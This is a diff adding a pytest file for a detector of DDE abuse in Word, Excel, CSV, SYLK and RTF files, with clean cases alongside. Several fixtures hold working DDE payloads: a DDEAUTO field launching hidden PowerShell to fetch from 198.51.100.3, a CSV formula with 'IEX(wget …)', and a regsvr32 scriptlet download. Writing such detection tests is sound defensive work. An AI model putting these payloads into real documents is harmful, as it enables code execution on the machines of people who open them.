@@ -1,0 +1,82 @@
+"""DDE in Word fields, Excel links and CSV/SYLK formulas; ordinary fields and workbook links stay clean."""
+
+import pytest
+
+from kakuri.detect.office_dde import OfficeDde
+from tests.builders_office import doc_with_text, docx, office_findings, plain_rtf, sylk, symbols_of, xlsx, xlsx_by_xlsxwriter
+
+DETECTOR = [OfficeDde()]
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def _field_runs(*pieces: str) -> str:
+    """A complex field whose instruction is split across runs, as Word writes it after edits."""
+    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    runs += "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
+    runs += '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!Unexpected End of Formula</w:t></w:r>'
+    return f"<w:p>{runs}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
+
+
+def test_ddeauto_field_split_across_runs_is_flagged():
+    body = _field_runs(' DDEAU', 'TO "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\cmd.exe" ',
+                       '"/c powershell -w hidden iwr http://198.51.100.3/p"')
+    findings = office_findings(DETECTOR, [("notice.docx", docx(body))])
+    assert symbols_of(findings) == {"OFFICE_DDE"}
+    assert "cmd.exe" in findings[0].evidence["commands"]
+
+
+def test_ddeauto_field_in_word97_doc_is_flagged():
+    text = 'Dear customer\r\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \x14Loading\x15\r'
+    findings = office_findings(DETECTOR, [("a.doc", doc_with_text(text))])
+    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd.exe" in findings[0].evidence["commands"]
+
+
+def test_word97_doc_mentioning_dde_in_plain_text_is_clean():
+    text = "We added the hidden DDE settings to the manual.\r\x13 PAGE \x141\x15\r"
+    assert office_findings(DETECTOR, [("manual.doc", doc_with_text(text))]) == []
+
+
+def test_dde_in_fldsimple_is_flagged():
+    body = '<w:p><w:fldSimple w:instr=\'DDE "cmd.exe" "/c calc" \'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
+    assert symbols_of(office_findings(DETECTOR, [("a.docx", docx(body))])) == {"OFFICE_DDE"}
+
+
+def test_excel_ddelink_is_flagged_but_external_workbook_link_is_not():
+    dde = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
+           'ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>')
+    book = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1">'
+            '<sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>')
+    flagged = office_findings(DETECTOR, [("a.xlsx", xlsx(extra={"xl/externalLinks/externalLink1.xml": dde}))])
+    assert symbols_of(flagged) == {"OFFICE_DDE"} and "cmd|/c calc.exe" in flagged[0].evidence["commands"]
+    assert office_findings(DETECTOR, [("b.xlsx", xlsx(extra={"xl/externalLinks/externalLink1.xml": book}))]) == []
+
+
+@pytest.mark.parametrize("text", [
+    "name,amount\r\nx,=cmd|' /c calc.exe'!A0\r\n",
+    "a;b\r\n@SUM(1+1)*cmd|' /C powershell IEX(wget 0.0.0.0/x)'!A0;2\r\n",
+    '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.1/x.sct scrobj.dll\'!\'\'\r\n',
+])
+def test_csv_dde_formula_is_flagged(text):
+    assert symbols_of(office_findings(DETECTOR, [("export.csv", text.encode())])) == {"OFFICE_DDE"}
+
+
+def test_sylk_dde_formula_is_flagged():
+    data = sylk(["cmd|' /c calc'!A0"], macro_sheet=False, auto_open=False).replace(b";E", b";E=")
+    assert symbols_of(office_findings(DETECTOR, [("a.slk", data)])) == {"OFFICE_DDE"}
+
+
+def test_rtf_ddeauto_field_is_flagged():
+    rtf = b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\\fldrslt x}}}'
+    assert symbols_of(office_findings(DETECTOR, [("a.rtf", rtf)])) == {"OFFICE_DDE"}
+
+
+@pytest.mark.parametrize("name, data", [
+    ("toc.docx", docx(_field_runs(" PAGE ", "\\* MERGEFORMAT "))),
+    ("hidden.docx", docx('<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden text about a ladder</w:t></w:r></w:p>')),
+    ("prices.csv", b"item,price,note\r\nA,100,a|b pipes are fine\r\nB,-5,=A1+B1\r\n"),
+    ("見積.xlsx", xlsx_by_xlsxwriter()),
+    ("memo.rtf", plain_rtf()),
+])
+def test_ordinary_fields_formulas_and_text_stay_clean(name, data):
+    assert office_findings(DETECTOR, [(name, data)]) == []
